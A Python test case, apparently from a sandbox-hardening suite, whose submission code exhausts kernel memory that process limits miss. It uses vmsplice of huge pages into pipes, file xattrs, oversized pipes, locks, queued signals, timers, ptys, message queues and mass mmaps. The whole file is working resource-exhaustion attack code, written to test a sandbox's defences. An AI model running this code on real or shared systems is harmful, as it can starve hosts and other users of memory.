"""Take memory that no limit of a process counts: pages in pipes, attributes, locks, queued signals, terminals.

Success: far more is taken than the sandbox may use (384 MiB of memory, 64 MB of files), which earns `double`'s points.
"""

from attacks.escaping.ways import HEAD

LIMITS = {"memory_mb": 384, "call_seconds": 8, "total_seconds": 20}
SUBMISSION = (
    HEAD
    + r'''
import fcntl
import signal

VMSPLICE, MSGGET, EVENTFD2, EPOLL_CREATE1, TIMERFD_CREATE, TIMER_CREATE, TKILL = 278, 68, 290, 291, 283, 222, 200
HUGE = 2**21


def a_huge_page():
    """Address of two megabytes that are one page, and of the area around it."""
    LIBC.mmap.restype = ctypes.c_void_p
    area = LIBC.mmap(None, ctypes.c_size_t(2 * HUGE), 3, 0x22, -1, ctypes.c_long(0))
    page = (area + HUGE - 1) // HUGE * HUGE
    LIBC.madvise(ctypes.c_void_p(page), ctypes.c_size_t(HUGE), 14)
    ctypes.memset(page, 1, HUGE)
    return area, page


def huge_pages_in_pipes():
    """A pipe that holds 4 KiB of a page of 2 MiB keeps all of it, even when the process has given it back."""
    _, end = os.pipe()
    os.set_blocking(end, False)
    held = 0
    while held < 2 * 384 * 2**20:
        area, page = a_huge_page()
        try:
            kernel(VMSPLICE, end, (ctypes.c_uint64 * 2)(page, 4096), 1, 0)
            held += HUGE
        except BlockingIOError:
            _, end = os.pipe()
            os.set_blocking(end, False)
        finally:
            LIBC.munmap(ctypes.c_void_p(area), ctypes.c_size_t(2 * HUGE))
    return held


def attributes_of_a_file():
    """They are not counted in the size of /tmp."""
    open("/tmp/attributes", "w").close()
    for number in range(2000):
        os.setxattr("/tmp/attributes", f"user.{number}", bytes(64_000))
    return number


def large_pipes():
    """A megabyte in each pipe, and as many pipes as can be opened."""
    total = 0
    for _ in range(500):
        reads, end = os.pipe()
        os.set_blocking(end, False)
        fcntl.fcntl(end, 1031, 2**20)
        total += os.write(end, bytes(2**20))
    return total > 64 * 2**20


def locks():
    with open("/tmp/locked", "w") as file:
        for number in range(20_000):
            fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * number)
    return number


def queued_signals():
    """They are counted for all processes of the user together."""
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMAX])
    thread = threading.get_native_id()
    for number in range(10_000):
        kernel(TKILL, thread, signal.SIGRTMAX)
    return number


def timers():
    room = ctypes.c_int()
    for number in range(20_000):
        kernel(TIMER_CREATE, 1, None, ctypes.byref(room))
    return number


def descriptors_of_many_kinds():
    def many(number):
        return [kernel(number, 0, 0) for _ in range(500)]
    return each(many, (EVENTFD2, EPOLL_CREATE1, TIMERFD_CREATE))


def terminals():
    return [os.openpty() for _ in range(300)]


def queues():
    return [kernel(MSGGET, 0, 0o1666) for _ in range(500)]


def areas():
    """Many small maps: each takes a note in the kernel."""
    import mmap
    kept = [mmap.mmap(-1, 4096, prot=1 + 2 * (n % 2)) for n in range(200_000)]
    return len(kept)


WAYS = [huge_pages_in_pipes, attributes_of_a_file, large_pipes, locks, queued_signals, timers,
        descriptors_of_many_kinds, terminals, queues, areas]
'''
)
